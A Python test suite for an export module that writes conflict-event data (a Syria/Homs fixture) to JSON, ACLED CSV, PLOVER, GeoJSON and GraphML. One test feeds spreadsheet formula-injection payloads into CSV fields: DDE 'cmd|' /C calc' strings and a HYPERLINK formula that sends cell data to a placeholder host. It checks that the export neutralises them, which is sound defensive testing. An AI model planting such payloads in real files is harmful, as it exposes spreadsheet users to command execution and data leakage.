"""Tests for sitroom.export: every format from one hand-built picture, plus the JSON Schema."""

from __future__ import annotations

import copy
import csv
import dataclasses
import datetime as dt
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sitroom import records
from sitroom.errors import ExportError
from sitroom.export import (
    ACLED_COLUMNS,
    EXPORT_FORMATS,
    alliance_graph,
    export,
    picture_to_dict,
)
from sitroom.export._common import indented
from sitroom.export.acled import disorder_type, interaction_code, neutralise_cell
from sitroom.picture import build_ledger, ledger
from sitroom.records import (
    Actor,
    ControlClaim,
    Document,
    Event,
    Evidence,
    Location,
    Mention,
    Picture,
    Place,
    Relation,
)

SCHEMA_PATH = Path(__file__).resolve().parents[1] / "schema" / "sitroom-export.schema.json"
GRAPHML = "{http://graphml.graphdrawing.org/xmlns}"
HOSTILE = 'Brigade "A&B" <North> \u00e9'

D1, D2 = "d" * 16, "e" * 16


def _evidence(doc: str, quote: str, start: int = 0) -> Evidence:
    return Evidence(document_id=doc, start=start, end=start + len(quote), quote=quote)


HOMS = Place(
    geonameid=169577,
    name="Homs",
    latitude=34.72682,
    longitude=36.72339,
    country="SY",
    admin1="Homs Governorate",
)
HOMS_LOCATION = Location(
    name="Homs",
    geonameid=169577,
    latitude=34.72682,
    longitude=36.72339,
    country="SY",
    admin1="Homs Governorate",
    geo_precision=1,
)


def make_picture() -> Picture:
    """Two reports, three actors, a place mention, two events, two relations, one control claim."""
    docs = (
        Document(id=D1, ref="r1.txt", text="x", title="Clashes", source="Wire A",
                 published=dt.date(2024, 3, 2)),
        Document(id=D2, ref="r2.txt", text="y"),
    )  # fmt: skip
    actors = (
        Actor(id="SYR-GOV", name="Military Forces of Syria", kind="state_forces", country="SY"),
        Actor(id="new:brigade", name=HOSTILE, aliases=("the brigade",), kind="armed_group"),
        Actor(id="RUS-MIL", name="Military Forces of Russia", kind="state_forces", country="RU"),
    )
    mentions = (
        Mention(document_id=D1, start=10, end=14, text="Homs", kind="place", place=HOMS),
        Mention(document_id=D1, start=0, end=4, text="army", kind="actor", actor_id="SYR-GOV"),
    )
    battle = Event(
        id="ev-battle",
        document_id=D1,
        status="reported",
        event_date=dt.date(2024, 3, 1),
        date_precision="day",
        event_type="Battles",
        sub_event_type="Armed clash",
        plover_type="ASSAULT",
        plover_mode="firearms",
        actor1="SYR-GOV",
        actor2="new:brigade",
        assoc_actor_2=("RUS-MIL",),
        location=HOMS_LOCATION,
        fatalities=4,
        fatalities_text="four fighters",
        trigger="clashed",
        evidence=(_evidence(D1, "Army units clashed with the brigade in Homs.", 5),),
    )
    request = Event(
        id="ev-request",
        document_id=D2,
        status="reported",
        event_date=None,
        date_precision="unknown",
        event_type=None,
        sub_event_type=None,
        plover_type="REQUEST",
        plover_mode=None,
        actor1="RUS-MIL",
        actor2="SYR-GOV",
        trigger="urged",
        evidence=(_evidence(D2, "Moscow urged Damascus to talk."),),
    )
    relations = (
        Relation(subject="RUS-MIL", predicate="supports", object="SYR-GOV",
                 date=dt.date(2024, 3, 1), evidence=(_evidence(D1, "backed by Russia"),)),
        Relation(subject="RUS-MIL", predicate="supports", object="SYR-GOV",
                 date=dt.date(2024, 2, 20), evidence=(_evidence(D2, "Russian support"),)),
    )  # fmt: skip
    control = (
        ControlClaim(place=HOMS_LOCATION, controller="SYR-GOV", status="held",
                     date=dt.date(2024, 3, 1), date_precision="day",
                     evidence=(_evidence(D1, "the army holds Homs"),)),
    )  # fmt: skip
    return Picture(
        documents=docs,
        actors=actors,
        mentions=mentions,
        events=(battle, request),
        relations=relations,
        control=control,
        main_events={D1: "ev-battle", D2: None},
    )


def render(picture: Picture, fmt: str) -> str:
    out = io.StringIO()
    export(picture, fmt, out)
    return out.getvalue()


def render_with(picture: Picture, fmt: str, **options: object) -> str:
    out = io.StringIO()
    export(picture, fmt, out, **options)
    return out.getvalue()


@pytest.fixture
def picture() -> Picture:
    return make_picture()


@pytest.fixture(scope="module")
def schema() -> dict[str, Any]:
    data: dict[str, Any] = json.loads(SCHEMA_PATH.read_text(encoding="utf-8"))
    return data


def _validator(schema: dict[str, Any]) -> jsonschema.Draft202012Validator:
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())


# --- json ---------------------------------------------------------------------------------


def test_json_export_validates_against_schema(picture: Picture, schema: dict[str, Any]) -> None:
    data = json.loads(render(picture, "json"))
    _validator(schema).validate(data)
    assert data["schema_version"] == 1
    assert data["generator"].startswith("sitroom ")
    assert [d["id"] for d in data["documents"]] == [D1, D2]
    assert data["documents"][0]["main_event"] == "ev-battle"
    assert data["documents"][0]["published"] == "2024-03-02"
    assert [e["id"] for e in data["events"]] == ["ev-battle", "ev-request"]
    assert data["events"][1]["location"] is None
    assert data["events"][0]["location"]["geo_precision"] == 1
    assert data["events"][0]["assoc_actor_2"] == ["RUS-MIL"]


def test_json_mentions_carry_place_fields_only_for_places(picture: Picture) -> None:
    mentions = picture_to_dict(picture)["mentions"]
    assert [m["start"] for m in mentions] == [0, 10]  # sorted by offset
    actor, place = mentions
    assert place["geonameid"] == 169577 and place["latitude"] == pytest.approx(34.72682)
    assert place["country"] == "SY" and place["admin1"] == "Homs Governorate"
    assert all(actor[k] is None for k in ("geonameid", "latitude", "longitude", "country"))


@pytest.mark.parametrize(
    ("path", "field"),
    [
        (("events", 0), "status"),
        (("events", 0, "location"), "geo_precision"),
        (("documents", 1), "main_event"),
        (("control", 0), "place"),
        (("relations", 0, "evidence", 0), "quote"),
        ((), "actors"),
        (("merged_events", 0), "members"),
        (("merged_events", 0, "fatality_range"), "high_documents"),
        (("claims", 0), "verdict"),
        (("claims", 0, "values", 0), "by_party"),
        (("control_timeline", 0), "conflicts"),
        (("control_timeline", 0, "entries", 0), "verdict"),
        (("alliances", 0), "first_seen"),
        ((), "claims"),
    ],
)
def test_schema_rejects_a_missing_field(
    picture: Picture, schema: dict[str, Any], path: tuple[Any, ...], field: str
) -> None:
    data = copy.deepcopy(picture_to_dict(picture))
    target: Any = data
    for step in path:
        target = target[step]
    del target[field]
    with pytest.raises(jsonschema.ValidationError):
        _validator(schema).validate(data)


def test_schema_closes_records_but_allows_new_sections(
    picture: Picture, schema: dict[str, Any]
) -> None:
    data = picture_to_dict(picture)
    data["future_section"] = [{"anything": 1}]
    _validator(schema).validate(data)
    data["events"][0]["typo_field"] = 1
    with pytest.raises(jsonschema.ValidationError):
        _validator(schema).validate(data)


def test_schema_vocabularies_match_records(schema: dict[str, Any]) -> None:
    defs = schema["$defs"]
    assert defs["actor"]["properties"]["kind"]["enum"] == list(records.ACTOR_KINDS)
    assert defs["event"]["properties"]["status"]["enum"] == list(records.EVENT_STATUSES)
    assert defs["date_precision"]["enum"] == list(records.DATE_PRECISIONS)
    assert defs["mention"]["properties"]["kind"]["enum"] == list(records.MENTION_KINDS)
    assert defs["relation"]["properties"]["predicate"]["enum"] == list(records.RELATION_PREDICATES)
    assert defs["control"]["properties"]["status"]["enum"] == list(records.CONTROL_STATUSES)
    assert defs["verdict"]["enum"] == list(ledger.VERDICTS)
    assert defs["claim"]["properties"]["field"]["enum"] == [*ledger.CLAIM_FIELDS, "control"]


def test_schema_event_fields_match_the_export(picture: Picture, schema: dict[str, Any]) -> None:
    data = picture_to_dict(picture)
    for section, name in [("events", "event"), ("actors", "actor"), ("documents", "document"),
                          ("mentions", "mention"), ("relations", "relation"),
                          ("control", "control"), ("merged_events", "merged_event"),
                          ("claims", "claim"), ("control_timeline", "control_timeline"),
                          ("alliances", "alliance")]:  # fmt: skip
        assert set(data[section][0]) == set(schema["$defs"][name]["required"]), section
    nested = [
        (data["claims"][0]["values"][0], "claim_value"),
        (data["control_timeline"][0]["entries"][0], "control_entry"),
        (data["merged_events"][0]["fatality_range"], "fatality_range"),
    ]
    for record, name in nested:
        assert set(record) == set(schema["$defs"][name]["required"]), name


# --- json: the ledger across reports ------------------------------------------------------


def contested_picture() -> Picture:
    """make_picture() plus a second report of the battle with another toll and controller."""
    picture = make_picture()
    battle = picture.events[0]
    retold = dataclasses.replace(
        battle, id="ev-battle-2", document_id=D2, fatalities=12, fatalities_text="12 dead",
        evidence=(_evidence(D2, "Twelve died as the brigade fought the army in Homs."),),
    )  # fmt: skip
    taken = ControlClaim(place=HOMS_LOCATION, controller="new:brigade", status="captured",
                         date=dt.date(2024, 3, 1), date_precision="day",
                         evidence=(_evidence(D2, "the brigade took Homs"),))  # fmt: skip
    return dataclasses.replace(
        picture, events=(*picture.events, retold), control=(*picture.control, taken)
    )


def test_json_ledger_sections_validate_against_schema(schema: dict[str, Any]) -> None:
    data = json.loads(render(contested_picture(), "json"))
    _validator(schema).validate(data)
    battle = next(e for e in data["merged_events"] if "ev-battle" in e["members"])
    assert battle["members"] == ["ev-battle", "ev-battle-2"]
    assert battle["document_ids"] == [D1, D2] and battle["sources"] == 2
    assert "place:same" in battle["merged_on"] and "fatalities:close" in battle["merged_on"]
    assert battle["fatality_range"] == {
        "low": 4, "best": 4, "high": 12,
        "low_documents": [D1], "best_documents": [D1], "high_documents": [D2],
    }  # fmt: skip
    assert battle["fatalities"] == 4 and battle["location"]["name"] == "Homs"
    [request] = [e for e in data["merged_events"] if e["members"] == ["ev-request"]]
    assert request["sources"] == 1 and request["merged_on"] == []


def test_json_claims_give_every_source_s_value_quote_and_the_verdict() -> None:
    data = picture_to_dict(contested_picture())
    battle_id = next(e["id"] for e in data["merged_events"] if "ev-battle" in e["members"])
    claims = {c["field"]: c for c in data["claims"] if c["subject_id"] == battle_id}
    assert claims["fatalities"]["verdict"] == "contradicted"
    assert claims["location"]["verdict"] == "corroborated"
    assert claims["fatalities"]["subject"] == "event" and claims["fatalities"]["entry"] is None
    assert claims["fatalities"]["values"] == [
        {"document_id": D1, "quote": "Army units clashed with the brigade in Homs.",
         "value": "4", "claimed_by": None, "by_party": False, "source_group": D1,
         "event_id": "ev-battle"},
        {"document_id": D2, "quote": "Twelve died as the brigade fought the army in Homs.",
         "value": "12", "claimed_by": None, "by_party": False, "source_group": D2,
         "event_id": "ev-battle-2"},
    ]  # fmt: skip
    control = [c for c in data["claims"] if c["subject"] == "control"]
    assert [(c["entry"], c["verdict"]) for c in control] == [
        (0, "contradicted"),
        (1, "contradicted"),
    ]
    assert {c["values"][0]["value"] for c in control} == {"SYR-GOV held", "new:brigade captured"}


def test_json_control_timeline_and_alliances() -> None:
    data = picture_to_dict(contested_picture())
    [homs] = data["control_timeline"]
    assert homs["key"] == "geonameid:169577" and homs["place"]["name"] == "Homs"
    assert [(e["controller"], e["status"]) for e in homs["entries"]] == [
        ("SYR-GOV", "held"),
        ("new:brigade", "captured"),
    ]
    assert homs["entries"][0]["evidence"][0]["quote"] == "the army holds Homs"
    [conflict] = homs["conflicts"]
    assert {conflict["first"], conflict["second"]} == {0, 1}
    [edge] = data["alliances"]
    assert (edge["subject"], edge["predicate"], edge["object"]) == (
        "RUS-MIL",
        "supports",
        "SYR-GOV",
    )
    assert (edge["first_seen"], edge["last_seen"]) == ("2024-02-20", "2024-03-01")
    assert edge["document_ids"] == [D1, D2] and len(edge["evidence"]) == 2


def test_json_accepts_a_ledger_built_already(picture: Picture) -> None:
    assert picture_to_dict(picture, ledger=build_ledger(picture)) == picture_to_dict(picture)


# --- acled-csv ----------------------------------------------------------------------------


def _csv_rows(text: str) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(text))
    return list(reader.fieldnames or []), list(reader)


def test_acled_csv_header_and_rows(picture: Picture) -> None:
    header, rows = _csv_rows(render(picture, "acled-csv"))
    assert header == [*ACLED_COLUMNS, "sitroom_event_id", "sitroom_geonameid"]
    assert len(ACLED_COLUMNS) == 31
    assert len(rows) == 1  # the PLOVER-only REQUEST has no ACLED row
    row = rows[0]
    assert (row["event_id_cnty"], row["sitroom_event_id"]) == ("SYR1", "ev-battle")
    assert (row["event_date"], row["year"], row["time_precision"]) == ("2024-03-01", "2024", "1")
    assert row["disorder_type"] == "Political violence"
    assert row["actor1"] == "Military Forces of Syria"
    assert row["actor2"] == HOSTILE
    assert row["assoc_actor_2"] == "Military Forces of Russia"
    assert (row["inter1"], row["inter2"], row["interaction"]) == (
        "State forces",
        "Rebel group",
        "State forces-Rebel group",
    )
    assert (row["country"], row["iso"], row["region"]) == ("Syria", "760", "Middle East")
    assert (row["latitude"], row["longitude"]) == ("34.7268", "36.7234")
    assert row["source"] == "Wire A"
    assert row["fatalities"] == "4"
    assert row["notes"].startswith("On 1 March 2024, Military Forces of Syria: armed clash against")
    quote = "“Army units clashed with the brigade in Homs.”"
    assert row["notes"].endswith(f"4 fatalities. Wire A: {quote}")


def test_acled_csv_skips_background_and_codes_foreign_forces(picture: Picture) -> None:
    battle = picture.events[0]
    background = dataclasses.replace(battle, id="ev-old", status="background")
    strike = dataclasses.replace(
        battle, id="ev-strike", event_type="Explosions/Remote violence",
        sub_event_type="Air/drone strike", actor1="RUS-MIL", actor2=None, assoc_actor_2=(),
        event_date=dt.date(2024, 2, 1), date_precision="month", fatalities=None,
        document_id=D2, status="claimed",
    )  # fmt: skip
    bigger = dataclasses.replace(picture, events=(*picture.events, background, strike))
    _, rows = _csv_rows(render(bigger, "acled-csv"))
    assert [r["sitroom_event_id"] for r in rows] == ["ev-strike", "ev-battle"]  # by date
    assert [r["event_id_cnty"] for r in rows] == ["SYR1", "SYR2"]
    row = rows[0]
    # Russian forces acting in Syria are "external/other" (8) in ACLED, alone.
    assert (row["inter1"], row["inter2"], row["interaction"]) == (
        "External/Other forces",
        "",
        "External/Other forces only",
    )
    numeric = _csv_rows(render_with(bigger, "acled-csv", inter="numeric"))[1][0]
    assert (numeric["inter1"], numeric["inter2"], numeric["interaction"]) == ("8", "", "80")
    assert row["time_precision"] == "3"
    assert row["fatalities"] == "0"
    assert row["tags"] == "status=claimed"
    # Its own report has no source name (so its ref), then the evidence's report's source.
    assert row["source"] == "r2.txt; Wire A"


def test_acled_csv_cells_never_start_a_formula(picture: Picture) -> None:
    # Finding: text from the reports starting with =, +, -, @, tab or CR reached spreadsheets
    # as a formula. Such text gets a leading ', as OWASP advises; coordinates stay numbers.
    battle = picture.events[0]
    assert battle.location is not None
    place = dataclasses.replace(
        battle.location, name="-2+3+cmd|' /C calc'!A0", latitude=-33.8688, longitude=-70.6693
    )
    event = dataclasses.replace(battle, location=place, notes="@SUM(1+1)*cmd|' /C calc'!A0")
    documents = tuple(
        dataclasses.replace(d, source='=HYPERLINK("http://x.example/?"&A1,"Wire")')
        for d in picture.documents
    )
    actors = tuple(
        dataclasses.replace(a, name="+1+1") if a.id == battle.actor1 else a for a in picture.actors
    )
    hostile = dataclasses.replace(picture, events=(event,), documents=documents, actors=actors)
    [row] = _csv_rows(render(hostile, "acled-csv"))[1]
    assert row["location"] == "'-2+3+cmd|' /C calc'!A0"
    # notes is sitroom's own description ("On 1 March 2024, ..."), which starts with no formula
    assert not row["notes"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert row["source"] == '\'=HYPERLINK("http://x.example/?"&A1,"Wire")'
    assert row["actor1"] == "'+1+1"
    assert (row["latitude"], row["longitude"]) == ("-33.8688", "-70.6693")
    for cell in ("\tx", "\rx", "-x", "=1", "+1", "@x"):
        assert neutralise_cell("admin1", cell) == "'" + cell
    assert neutralise_cell("latitude", "-1.5") == "-1.5"
    assert neutralise_cell("latitude", "-1+1") == "'-1+1"
    assert neutralise_cell("fatalities", -3) == -3


@pytest.mark.parametrize(
    ("event_type", "sub_event_type", "expected"),
    [
        ("Protests", "Excessive force against protesters", "Political violence; Demonstrations"),
        ("Protests", "Peaceful protest", "Demonstrations"),
        ("Riots", "Mob violence", "Political violence"),
        ("Riots", "Violent demonstration", "Demonstrations"),
        ("Strategic developments", "Agreement", "Strategic developments"),
        ("Violence against civilians", None, "Political violence"),
    ],
)
def test_disorder_type(event_type: str, sub_event_type: str | None, expected: str) -> None:
    assert disorder_type(event_type, sub_event_type) == expected


def test_interaction_code_orders_lower_first() -> None:
    assert interaction_code(7, 2) == "27"
    assert interaction_code(None, 3) == "30"
    assert interaction_code(None, None) == ""


# --- plover-jsonl -------------------------------------------------------------------------


def test_plover_jsonl_lines_parse(picture: Picture) -> None:
    lines = render(picture, "plover-jsonl").splitlines()
    records_ = [json.loads(line) for line in lines]
    assert len(records_) == 2
    by_id = {r["id"]: r for r in records_}
    battle, request = by_id["ev-battle"], by_id["ev-request"]
    assert battle["event"] == ["ASSAULT"] and battle["mode"] == ["firearms"]
    assert battle["context"] == ["military"]
    assert [a["name"] for a in battle["actor"]] == ["Military Forces of Syria"]
    assert battle["recipient"][0]["name"] == HOSTILE
    assert battle["event_loc"]["lat"] == pytest.approx(34.72682)
    assert battle["event_loc"]["country"] == "SYR"
    assert request["event"] == ["REQUEST"] and request["event_loc"] is None
    assert request["event_date"] is None
    assert request["event_text"] == "Moscow urged Damascus to talk."


# --- geojson ------------------------------------------------------------------------------


def test_geojson_has_located_events_as_lon_lat_points(picture: Picture) -> None:
    data = json.loads(render(picture, "geojson"))
    assert data["type"] == "FeatureCollection"
    assert len(data["features"]) == 1  # the REQUEST has no location
    feature = data["features"][0]
    assert feature["type"] == "Feature"
    assert feature["geometry"]["type"] == "Point"
    lon, lat = feature["geometry"]["coordinates"]
    assert (lon, lat) == pytest.approx((36.72339, 34.72682))
    props = feature["properties"]
    assert props["actor2"] == HOSTILE and props["document_ids"] == [D1]
    assert props["geo_precision"] == 1 and props["location_inferred"] is False


# --- graphml ------------------------------------------------------------------------------


def test_graphml_parses_with_nodes_and_aggregated_edges(picture: Picture) -> None:
    root = ET.fromstring(render(picture, "graphml").encode("utf-8"))
    assert root.tag == f"{GRAPHML}graphml"
    keys = {k.get("id") for k in root.iter(f"{GRAPHML}key")}
    graph = root.find(f"{GRAPHML}graph")
    assert graph is not None
    nodes = graph.findall(f"{GRAPHML}node")
    edges = graph.findall(f"{GRAPHML}edge")
    assert sorted(n.get("id") or "" for n in nodes) == ["RUS-MIL", "SYR-GOV", "new:brigade"]
    assert len(edges) == 1  # two reports of one relation
    edge = edges[0]
    assert (edge.get("source"), edge.get("target")) == ("RUS-MIL", "SYR-GOV")
    data = {d.get("key"): d.text for d in edge.findall(f"{GRAPHML}data")}
    assert set(data) <= keys
    assert data["predicate"] == "supports"
    assert (data["first_seen"], data["last_seen"]) == ("2024-02-20", "2024-03-01")
    assert (data["count"], data["sources"]) == ("2", "2")
    assert data["evidence"] == "Russian support | backed by Russia"  # oldest report first


def test_xml_hostile_actor_name_round_trips(picture: Picture) -> None:
    text = render(picture, "graphml")
    assert "&amp;" in text and "&lt;North&gt;" in text
    root = ET.fromstring(text.encode("utf-8"))
    names = [d.text for d in root.iter(f"{GRAPHML}data") if d.get("key") == "name"]
    assert HOSTILE in names


def test_graphml_drops_characters_xml_cannot_carry(picture: Picture) -> None:
    odd = Actor(id="new:odd", name="bad\x00name\x1b")
    text = render(dataclasses.replace(picture, actors=(*picture.actors, odd)), "graphml")
    root = ET.fromstring(text.encode("utf-8"))
    assert "badname" in [d.text for d in root.iter(f"{GRAPHML}data")]


def test_alliance_graph_adds_nodes_for_unknown_relation_ends(picture: Picture) -> None:
    extra = Relation(subject="new:ghost", predicate="opposes", object="SYR-GOV", date=None)
    graph = alliance_graph(dataclasses.replace(picture, relations=(extra,)))
    ghost = next(n for n in graph["nodes"] if n["id"] == "new:ghost")
    assert ghost == {
        "id": "new:ghost",
        "label": "new:ghost",
        "name": "new:ghost",
        "kind": "unknown",
        "country": None,
    }
    (edge,) = graph["edges"]
    assert edge["first_seen"] is None and edge["count"] == 1 and edge["sources"] == 0


# --- the registry -------------------------------------------------------------------------


def test_registry_lists_the_five_formats() -> None:
    assert list(EXPORT_FORMATS) == ["json", "acled-csv", "plover-jsonl", "geojson", "graphml"]


def test_unknown_format_raises_export_error(picture: Picture) -> None:
    with pytest.raises(ExportError, match="known formats: json, acled-csv"):
        export(picture, "kml", io.StringIO())


def test_unwritable_output_raises_export_error(picture: Picture) -> None:
    out = io.StringIO()
    out.close()
    with pytest.raises(ExportError, match="cannot write json"):
        export(picture, "json", out)


@pytest.mark.parametrize("fmt", list(EXPORT_FORMATS))
def test_exports_are_deterministic_and_order_independent(picture: Picture, fmt: str) -> None:
    first, second = render(picture, fmt), render(make_picture(), fmt)
    assert first == second
    shuffled = Picture(
        documents=picture.documents[::-1],
        actors=picture.actors[::-1],
        mentions=picture.mentions[::-1],
        events=picture.events[::-1],
        relations=picture.relations[::-1],
        control=picture.control[::-1],
        main_events=dict(reversed(picture.main_events.items())),
    )
    assert render(shuffled, fmt) == first


@pytest.mark.parametrize("fmt", list(EXPORT_FORMATS))
def test_empty_picture_exports(fmt: str) -> None:
    text = render(Picture(), fmt)
    assert text == "" if fmt == "plover-jsonl" else text.endswith("\n")


@pytest.mark.parametrize("empty", [False, True])
def test_json_is_written_record_by_record_as_one_dump_would(picture: Picture, empty: bool) -> None:
    if empty:
        picture = Picture()
    whole = json.dumps(picture_to_dict(picture), ensure_ascii=False, indent=2, allow_nan=False)
    assert render(picture, "json") == whole + "\n"


JSON_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=20,
)


@settings(max_examples=500)
@given(JSON_VALUES, st.integers(0, 3))
def test_the_fast_indenter_writes_what_json_dumps_writes(value: Any, level: int) -> None:
    expected = json.dumps(value, ensure_ascii=False, indent=2, allow_nan=False)
    assert indented(value, level) == expected.replace("\n", "\n" + "  " * level)


@pytest.mark.parametrize("value", [float("nan"), [float("inf")], {"x": float("-inf")}])
def test_the_fast_indenter_refuses_what_json_refuses(value: Any) -> None:
    with pytest.raises(ValueError):
        json.dumps(value, allow_nan=False)
    with pytest.raises(ValueError):
        indented(value, 1)
